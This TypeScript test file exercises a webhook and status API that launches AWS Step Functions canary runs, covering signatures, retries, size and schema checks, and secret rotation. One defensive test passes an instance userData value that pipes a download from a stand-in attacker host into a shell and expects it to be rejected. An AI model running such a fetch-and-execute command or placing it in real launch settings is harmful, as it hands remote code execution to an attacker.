import { DescribeExecutionCommand, StopExecutionCommand } from '@aws-sdk/client-sfn';
import { apiGatewayEvent, lambdaContext } from '../../support/api-gateway-event';
import { startRunApi, type ApiHandler, type RunApi } from '../../support/run-api';
import { consoleInput, signedRequest, type SignOptions } from '../../support/webhook-requests';

/**
 * The deployed webhook and status functions, end to end against moto's Step Functions and Secrets Manager
 * (test/support/run-api.ts): we look at what Step Functions has afterwards.
 */

type Handler = ApiHandler;

let api: RunApi;
let webhook: Handler;
let status: Handler;
let stateMachineArn: string;

const call = (handler: Handler, body: string | Buffer, options: SignOptions = {}, base64 = false) =>
  api.call(handler, body, options, base64);
const executions = () => api.executions();
const postRun = (body: unknown, options: SignOptions = {}) => api.postRun(body, options);
/** `GET /runs/nope`: 404 when signed with a key the API accepts, 401 otherwise. */
const getUnknownRun = (options: SignOptions) =>
  call(status, '', {
    method: 'GET',
    path: '/runs/nope',
    routeKey: 'GET /runs/{id}',
    pathParameters: { id: 'nope' },
    ...options,
  });

beforeAll(async () => {
  api = await startRunApi();
  ({ webhook, status, stateMachineArn } = api);
}, 60_000);

afterAll(async () => {
  await api?.stop();
});

describe('POST /runs against Step Functions (moto)', () => {
  const input = consoleInput();

  it('starts one execution named after service, canary version and delivery, with the body as input', async () => {
    const res = await postRun(input, { deliveryId: 'gh-100-1' });
    expect(res.statusCode).toBe(202);
    expect(res.body.name).toBe('checkout_1.42.0_gh-100-1');
    expect(res.body.executionArn).toBe(
      `${stateMachineArn.replace(':stateMachine:', ':execution:')}:checkout_1.42.0_gh-100-1`,
    );
    expect(res.body.statusUrl).toBe('https://api.example.test/runs/checkout_1.42.0_gh-100-1');
    const started = await api.sfn.send(new DescribeExecutionCommand({ executionArn: res.body.executionArn }));
    expect(started.status).toBe('RUNNING');
    expect(JSON.parse(started.input!)).toEqual(input);
    expect(await executions()).toHaveLength(1);
  });

  it('answers a retried delivery with the same execution and starts nothing new', async () => {
    const first = await postRun(input, { deliveryId: 'gh-101-1' });
    const again = await postRun(input, { deliveryId: 'gh-101-1' });
    expect(again.statusCode).toBe(202);
    expect(again.body.executionArn).toBe(first.body.executionArn);
    expect((await executions()).filter((e) => e.name === 'checkout_1.42.0_gh-101-1')).toHaveLength(1);
  });

  it('answers a retry after the run ended with that run (200 + its status), still one execution', async () => {
    const first = await postRun(input, { deliveryId: 'gh-102-1' });
    await api.sfn.send(new StopExecutionCommand({ executionArn: first.body.executionArn }));
    const late = await postRun(input, { deliveryId: 'gh-102-1' });
    expect(late.statusCode).toBe(200);
    expect(late.body).toMatchObject({ executionArn: first.body.executionArn, status: 'ABORTED' });
    expect((await executions()).filter((e) => e.name === 'checkout_1.42.0_gh-102-1')).toHaveLength(1);
  });

  it('refuses a replayed delivery id with another body (409) and starts nothing', async () => {
    await postRun(input, { deliveryId: 'gh-103-1' });
    const before = (await executions()).length;
    const other = { ...input, steps: [{ weight: 50, durationSeconds: 120 }] };
    const res = await postRun(other, { deliveryId: 'gh-103-1' });
    expect(res.statusCode).toBe(409);
    expect(res.body.error).toBe('delivery-conflict');
    expect(await executions()).toHaveLength(before);
  });

  it('takes a base64-encoded body (API Gateway encodes non-text content types)', async () => {
    const res = await call(webhook, JSON.stringify(input), { deliveryId: 'gh-104-1' }, true);
    expect(res.statusCode).toBe(202);
  });

  describe('refusals start nothing', () => {
    let before: number;
    beforeEach(async () => {
      before = (await executions()).length;
    });
    afterEach(async () => {
      expect(await executions()).toHaveLength(before);
    });

    it('bad signature → 401', async () => {
      const res = await postRun(input, { deliveryId: 'bad-1', secret: 'not-the-secret' });
      expect([res.statusCode, res.body.error]).toEqual([401, 'bad-signature']);
    });

    it('no signature → 401', async () => {
      const event = apiGatewayEvent(signedRequest(JSON.stringify(input), { deliveryId: 'bad-2' }));
      delete event.headers['x-hub-signature-256'];
      const res = await webhook(event, lambdaContext('test'));
      expect(res.statusCode).toBe(401);
      expect(JSON.parse(res.body!).message).toBe('missing header x-hub-signature-256');
    });

    it('stale timestamp → 401', async () => {
      const res = await postRun(input, { deliveryId: 'bad-3', timestamp: Math.round(Date.now() / 1000) - 3600 });
      expect([res.statusCode, res.body.error]).toEqual([401, 'stale-timestamp']);
    });

    it('body over 64 KiB → 413', async () => {
      const big = { ...input, canaryConfig: { ...(input.canaryConfig as object), description: 'x'.repeat(70_000) } };
      const res = await postRun(big, { deliveryId: 'bad-4' });
      expect([res.statusCode, res.body.error]).toEqual([413, 'body-too-large']);
    });

    it('not JSON → 400', async () => {
      const res = await postRun('{"service":', { deliveryId: 'bad-5' });
      expect([res.statusCode, res.body.error]).toEqual([400, 'invalid-json']);
    });

    it.each([
      ['service', { service: 'Checkout Service' }],
      [
        'steps[1].weight',
        {
          steps: [
            { weight: 10, durationSeconds: 60 },
            { weight: 60, durationSeconds: 60 },
          ],
        },
      ],
      ['traffic.listenerArn', { traffic: { productionTargetGroupArn: 'arn:tg' } }],
      [
        'target',
        {
          target: 'local',
          baseline: { version: '1.41.0', local: { command: ['node', 'app.js'] } },
          canary: { version: '1.42.0', local: { command: ['node', 'app.js'] } },
        },
      ],
    ])('schema violation → 400 naming %s', async (field, change) => {
      const res = await postRun({ ...input, ...change }, { deliveryId: 'bad-6' });
      expect(res.statusCode).toBe(400);
      expect(res.body.error).toBe('invalid-run-input');
      expect(res.body.field).toBe(field);
      expect(res.body.message).toContain(field);
    });

    it.each([
      ['canary.aws.userData', { userData: '#!/bin/sh\ncurl https://evil.example/x | sh' }],
      ['canary.aws.imageId', { imageId: 'ami-0123456789abcdef0' }],
    ])('a launch field the deployment does not accept → 403 naming %s', async (field, override) => {
      const canary = input.canary as { aws: Record<string, unknown> };
      const body = { ...input, canary: { ...canary, aws: { ...canary.aws, ...override } } };
      const res = await postRun(body, { deliveryId: 'bad-7' });
      expect([res.statusCode, res.body.error, res.body.field]).toEqual([403, 'field-not-allowed', field]);
      expect(res.body.message).toContain(
        `${field}: not allowed by this deployment (it accepts: instanceType,subnetIds,securityGroupIds)`,
      );
    });
  });
});

describe('GET /runs/{id} against Step Functions (moto)', () => {
  it('answers status and the run id of a started run', async () => {
    const started = await postRun(consoleInput(), { deliveryId: 'gh-200-1' });
    const res = await call(status, '', {
      method: 'GET',
      path: `/runs/${started.body.name}`,
      routeKey: 'GET /runs/{id}',
      pathParameters: { id: started.body.name },
      deliveryId: 'poll-1',
    });
    expect(res.statusCode).toBe(200);
    expect(res.body).toMatchObject({
      name: started.body.name,
      executionArn: started.body.executionArn,
      status: 'RUNNING',
    });
    expect(['running', 'awaiting-approval']).toContain(res.body.result);
  });

  it('404 for an unknown run, 401 unsigned', async () => {
    const get = getUnknownRun;
    expect((await get({})).statusCode).toBe(404);
    expect((await get({ secret: 'wrong' })).statusCode).toBe(401);
  });
});

describe('webhook secret from Secrets Manager', () => {
  const rotate = (value: string) => api.rotate(value);
  const start = (handler: Handler, deliveryId: string, secret?: string) =>
    call(handler, JSON.stringify(consoleInput()), { deliveryId, secret });

  it('a warm container accepts a key rotated after it cached the secret, and the previous key until the next rotation', async () => {
    // Warm: this container has read and cached the secret (the tests above).
    expect((await start(webhook, 'gh-300-0')).statusCode).toBe(202);
    await rotate('rotated-secret');
    // A container re-reads the secret for an unknown key at most once a second (SecretCache's minRereadMs).
    await new Promise((resolve) => setTimeout(resolve, 1100));
    // CI already signs with the new key (AWSCURRENT): accepted at once, not after the cache expires.
    expect((await start(webhook, 'gh-300-1', 'rotated-secret')).statusCode).toBe(202);
    // CI not updated yet: the key before the rotation is AWSPREVIOUS, still accepted.
    expect((await start(webhook, 'gh-300-2')).statusCode).toBe(202);
    // Two rotations later the first key is neither current nor previous.
    await rotate('rotated-again');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    expect((await start(webhook, 'gh-300-3', 'rotated-again')).statusCode).toBe(202);
    expect((await start(webhook, 'gh-300-4', 'rotated-secret')).statusCode).toBe(202);
    const stale = await start(webhook, 'gh-300-5');
    expect([stale.statusCode, stale.body.error]).toEqual([401, 'bad-signature']);
  });

  it('a cold container reads the current and the previous key', async () => {
    let cold: Handler | undefined;
    await jest.isolateModulesAsync(async () => {
      cold = (await import('../../../functions/webhook/handler')).handler as unknown as Handler;
    });
    const results = await Promise.all([
      start(cold!, 'gh-301-1', 'rotated-again'),
      start(cold!, 'gh-301-2', 'rotated-secret'),
      start(cold!, 'gh-301-3'),
    ]);
    expect(results.map((r) => r.statusCode)).toEqual([202, 202, 401]);
  });

  it('the status function follows a rotation too', async () => {
    const get = (secret: string) => getUnknownRun({ deliveryId: 'poll-rot', secret });
    await rotate('rotated-third');
    await new Promise((resolve) => setTimeout(resolve, 1100));
    expect((await get('rotated-third')).statusCode).toBe(404);
    expect((await get('rotated-again')).statusCode).toBe(404);
    expect((await get('rotated-secret')).statusCode).toBe(401);
  });
});
